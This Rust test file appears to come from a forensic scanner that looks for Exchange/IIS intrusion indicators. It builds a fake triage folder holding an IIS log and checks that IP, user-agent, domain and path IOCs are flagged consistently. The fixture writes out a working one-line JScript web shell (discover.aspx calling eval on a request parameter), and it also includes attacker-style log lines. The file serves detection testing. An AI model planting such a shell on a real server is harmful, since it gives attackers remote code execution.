//! The matchers inside the scan engine: a tiny triage folder with one IIS log and one dropped
//! web shell, scanned with the built-in pack plus a user feed. Checks that the prefilter anchors
//! let the right lines through and that findings are the same on every run.

use exsweep_core::{Engine, ScanOptions};
use exsweep_intel::{FeedFormat, IocFileCheck, IocSet, NetworkIocDetector};
use std::path::PathBuf;

const IIS: &str = "#Software: Microsoft Internet Information Services 10.0\n\
#Version: 1.0\n\
#Date: 2021-03-03 06:00:00\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n\
2021-03-03 06:47:55 10.0.1.31 POST /owa/auth/Current/themes/resources/logon.css - 443 - 5.254.43.18 python-requests/2.25.1 - 200 0 0 187\n\
2021-03-03 06:48:00 10.0.1.31 GET /owa/ - 443 - 10.1.2.3 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 5\n\
2021-03-03 06:49:10 10.0.1.31 GET /aspnet_client/discover.aspx - 443 - 10.1.2.4 Mozilla/5.0 https://cdn.yolkish.com/a 200 0 0 9\n\
2021-03-03 06:50:00 10.0.1.31 GET /owa/ - 443 - 10.1.2.5 Mozilla/5.0 https://notyolkish.com/ 200 0 0 5\n";

fn triage() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("EX01");
    let logs = root.join("C/inetpub/logs/LogFiles/W3SVC1");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(logs.join("u_ex210303.log"), IIS).unwrap();
    let shells = root.join("C/inetpub/wwwroot/aspnet_client");
    std::fs::create_dir_all(&shells).unwrap();
    std::fs::write(
        shells.join("discover.aspx"),
        "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>",
    )
    .unwrap();
    (dir, root)
}

fn scan(set: &IocSet, root: &PathBuf) -> Vec<(String, Option<u64>, String)> {
    let engine = Engine::new(vec![Box::new(NetworkIocDetector::new(set))])
        .with_file_checks(vec![Box::new(IocFileCheck::new(set))]);
    let report = engine.scan(std::slice::from_ref(root), &ScanOptions::default()).unwrap();
    report
        .findings
        .iter()
        .filter(|f| f.rule_source == "ioc")
        .map(|f| {
            (f.rule_id.clone(), f.line, f.extra.get("ioc_value").and_then(|v| v.as_str()).unwrap_or("").to_string())
        })
        .collect()
}

#[test]
fn builtin_pack_and_a_user_feed_in_a_scan() {
    let (_keep, root) = triage();
    let mut set = IocSet::with_builtin();
    set.add_text("my-c2.txt", "# my C2\nyolkish.com\n", FeedFormat::LokiC2);
    let got = scan(&set, &root);
    let has =
        |rule: &str, line: Option<u64>, value: &str| got.iter().any(|(r, l, v)| r == rule && *l == line && v == value);
    assert!(has("EXS-IOC-IP", Some(5), "5.254.43.18"), "{got:#?}");
    assert!(has("EXS-IOC-UA", Some(5), "python-requests/2.25.1"), "{got:#?}");
    assert!(has("EXS-IOC-DOMAIN", Some(7), "yolkish.com"), "{got:#?}");
    assert!(!got.iter().any(|(_, l, _)| *l == Some(6) || *l == Some(8)), "{got:#?}");
    assert!(has("EXS-IOC-PATH", None, r"C:\inetpub\wwwroot\aspnet_client\discover.aspx"), "{got:#?}");
    // Deterministic: a second scan gives the same findings in the same order.
    assert_eq!(got, scan(&set, &root));
}

/// Throughput of the network detector on records that all reach it (the case with IP ranges
/// loaded, when the engine's prefilter cannot skip lines). Prints records per second.
#[test]
#[ignore]
fn network_detector_speed() {
    use exsweep_core::detect::{Detector, FileCtx};
    use exsweep_core::model::ArtifactKind;
    use exsweep_core::record::{Fields, Header, Record};
    let mut set = IocSet::with_builtin();
    set.add_text("ranges.txt", "# a range\n91.192.103.0/24\n", FeedFormat::LokiC2);
    let d = NetworkIocDetector::new(&set);
    assert!(d.checks_every_record());
    let header = Header::new(IIS.lines().nth(3).unwrap()["#Fields: ".len()..].split(' ').map(String::from).collect());
    let lines: Vec<String> = (0..200_000)
        .map(|i| {
            format!(
                "2021-03-03 06:{:02}:{:02} 10.0.1.31 GET /owa/service.svc action=GetItem&ID={i} 443 DOMAIN\\user{} 10.1.{}.{} \
                 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/89.0.4389.90+Safari/537.36 \
                 https://mail.example.org/owa/ 200 0 0 {}",
                i / 60 % 60,
                i % 60,
                i % 50,
                i % 250,
                i % 200,
                i % 900
            )
        })
        .collect();
    let ctx = FileCtx { source: 0, path: "u_ex.log", kind: ArtifactKind::IisW3c, protocol: None, exchange_path: None };
    let t = std::time::Instant::now();
    let mut out = Vec::new();
    for (n, l) in lines.iter().enumerate() {
        let mut spans = Vec::with_capacity(15);
        let mut start = 0u32;
        for (i, c) in l.char_indices() {
            if c == ' ' {
                spans.push((start, i as u32));
                start = i as u32 + 1;
            }
        }
        spans.push((start, l.len() as u32));
        let rec = Record {
            line: Some(n as u64 + 5),
            record_id: None,
            time: None,
            raw: l,
            fields: Fields::Columns { header: &header, text: l, spans: &spans },
        };
        d.check(&ctx, &rec, &mut out);
    }
    let el = t.elapsed();
    println!(
        "network detector: {} IIS records (every field scanned) in {el:?}: {:.0} records/s, {} findings",
        lines.len(),
        lines.len() as f64 / el.as_secs_f64(),
        out.len()
    );
}
